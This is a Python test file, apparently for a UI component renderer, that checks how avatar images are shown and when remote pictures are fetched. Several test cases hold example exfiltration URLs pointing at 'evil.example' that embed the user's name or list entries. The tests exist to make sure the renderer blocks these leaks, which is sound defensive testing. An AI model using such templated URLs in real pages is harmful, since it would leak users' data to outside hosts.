"""Pictures: what stands for them, and when they are fetched."""

from __future__ import annotations

import pytest
from support.drawn import SHADCN, drawn, one, words
from support.every_row import every_row
from support.read_html import elements_in

from epoch_cli.catalog import Catalog


@pytest.mark.parametrize(
    ("props", "attributes", "shown"),
    [
        (
            {"src": "https://example.com/a.png", "alt": "Ada Lovelace"},
            {"role": "img", "aria-label": "Ada Lovelace"},
            "AL",
        ),
        ({"fallback": "AL"}, {"aria-hidden": "true"}, "AL"),
        ({}, {"aria-hidden": "true"}, ""),
    ],
)
def test_pictures_are_not_fetched(punk: Catalog, props: dict[str, str], attributes: dict[str, str], shown: str) -> None:
    found = drawn({"type": "Avatar", "props": props}, punk)
    picture = one(found, "span", class_="ui-image-fallback")
    assert (picture[1].items() >= attributes.items(), words(picture)) == (True, shown)


def test_only_avatars_have_initials() -> None:
    alt = "The board as it was a week ago, with all cards in one column"
    found = drawn({"type": "AspectRatio", "props": {"alt": alt, "ratio": "4/3"}}, SHADCN)
    picture = one(found, "span", class_="ui-image-fallback")
    assert (picture[1]["aria-label"], words(picture)) == (alt, "")  # the style shows its name in a frame


@pytest.mark.parametrize(
    ("source", "fetched"),
    [("https://a.example/x.png", True), ("http://a.example/x", False), ("x.png", False), ("data:image/png,x", False)],
)
def test_pictures_are_fetched_on_demand_and_over_https_alone(punk: Catalog, source: str, fetched: bool) -> None:
    found = drawn({"type": "Avatar", "props": {"src": source, "alt": "Ada"}}, punk, remote_images=True)
    assert bool([each for each in elements_in(found) if each[0] == "img"]) is fetched


PERSON = {"context": {"user": {"name": "ada", "picture": "https://a.example/ada.png"}, "users": ["bob"]}}


@every_row(
    ("source", "fetched"),
    [
        ("https://evil.example/?q={context.user.name}", False),
        ("https://{context.user.name}.evil.example/a.png", False),
        ("https://evil.example/{context.user.name}/a.png", False),
        ("{context.user.picture}?q={context.user.name}", False),
        ("{context.user.picture}", True),  # the data's own
        ("https://a.example/{context.user.id}.png", True),  # a sample, which tells nobody anything
    ],
)
def test_no_picture_is_fetched_that_would_tell_its_host_of_the_users_data(
    punk: Catalog, source: str, fetched: bool
) -> None:
    root = {"type": "Avatar", "props": {"src": source, "alt": "Ada"}}
    each = {"type": "Stack", "dataSource": "{context.users}", "itemTemplate": root}
    for node in (root, each):
        found = drawn(node, punk, remote_images=True, data=PERSON)
        assert bool([each for each in elements_in(found) if each[0] == "img"]) is fetched


def test_nor_one_that_would_tell_it_of_an_entry(punk: Catalog) -> None:
    picture = {"type": "Avatar", "props": {"src": "https://evil.example/?q={item}", "alt": "Ada"}}
    root = {"type": "Stack", "dataSource": "{context.users}", "itemTemplate": picture}
    assert "bob" not in str(drawn(root, punk, remote_images=True, data=PERSON))
    assert "https://evil.example/?q=" in str(drawn(root, punk, remote_images=True))
